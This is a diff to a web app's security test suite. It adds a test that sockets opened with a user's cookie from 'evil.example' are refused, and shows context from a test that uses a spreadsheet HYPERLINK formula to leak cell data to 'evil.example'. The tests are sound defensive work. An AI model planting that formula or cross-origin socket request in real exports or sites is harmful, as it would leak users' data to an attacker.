@@ -390,6 +390,23 @@ describe('attacks on accounts through a role (issue 32)', () => {
     expect(await new Browser(t.url).signIn('ida@example.com', 'ida chose this one')).toBe(204);
   });
 
+  it("lets no other site's page open a live socket with a person's cookie", async () => {
+    const o = await owner('yael@example.com');
+    const cookie = [...o.b.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
+    const open = (headers: Record<string, string>) =>
+      new Promise<string>((resolve) => {
+        const socket = io(`${t.url}/live`, { auth: { project: o.projectId }, extraHeaders: { cookie, ...headers }, transports: ['websocket'], forceNew: true, reconnection: false });
+        socket.once('connect', () => {
+          socket.disconnect();
+          resolve('connected');
+        });
+        socket.once('connect_error', (err) => resolve(err.message));
+      });
+    expect(await open({ origin: 'https://evil.example' })).not.toBe('connected');
+    expect(await open({ 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' })).not.toBe('connected');
+    expect(await open({ origin: t.url })).toBe('connected');
+  });
+
   it('exports the audit log with text a spreadsheet would run as a formula kept as text', async () => {
     const o = await owner('zoe@example.com');
     const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
